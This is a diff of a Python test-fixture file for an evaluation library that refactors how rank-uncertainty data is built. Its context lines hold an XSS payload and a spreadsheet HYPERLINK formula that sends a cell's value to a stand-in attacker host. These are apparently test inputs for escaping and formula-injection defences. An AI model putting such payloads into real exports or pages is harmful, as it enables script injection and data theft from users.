@@ -14,6 +14,7 @@ import numpy as np
 
 import publiceval as pe
 from publiceval import OPD, Evaluation, Item, Scale, ScaleLabel, Survey, Text
+from publiceval._core.results import OPDUncertainty
 
 SCRIPT_NAME = "<script>alert(1)</script>"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'
@@ -205,17 +206,24 @@ def with_uncertainty(ev: Evaluation) -> Evaluation:
         opds.append(
             r.model_copy(
                 update={
-                    "uncertainty": {
-                        "rank_interval": {
-                            "low": max(1, k),
-                            "high": k + 2,
-                            "level": 0.95,
-                            "method": "bootstrap",
-                        },
-                        "category_probabilities": {"B": 0.7 - 0.1 * k, "KB": 0.3 + 0.1 * k},
-                        "tier": 1 + k // 2,
-                        "adequacy": {"n_required": 30, "adequate": False},
-                    }
+                    "uncertainty": OPDUncertainty.model_validate(
+                        {
+                            "rank_interval": {
+                                "low": max(1, k),
+                                "high": k + 2,
+                                "level": 0.95,
+                                "method": "bootstrap",
+                            },
+                            "category_probabilities": {"B": 0.7 - 0.1 * k, "KB": 0.3 + 0.1 * k},
+                            "tier": 1 + k // 2,
+                            "adequacy": {
+                                "adequate": False,
+                                "n": r.score.n,
+                                "required": 30.0,
+                                "criterion": "min-n 30",
+                            },
+                        }
+                    )
                 }
             )
         )
@@ -260,7 +268,9 @@ def evaluation(kind: str = "plain") -> Evaluation:
     if kind == "bare":  # as an evaluation made before the statistics added uncertainty
         ev = make_evaluation()
         return ev.model_copy(
-            update={"opds": [r.model_copy(update={"uncertainty": {}}) for r in ev.opds]}
+            update={
+                "opds": [r.model_copy(update={"uncertainty": OPDUncertainty()}) for r in ev.opds]
+            }
         )
     if kind == "published":
         return make_published()
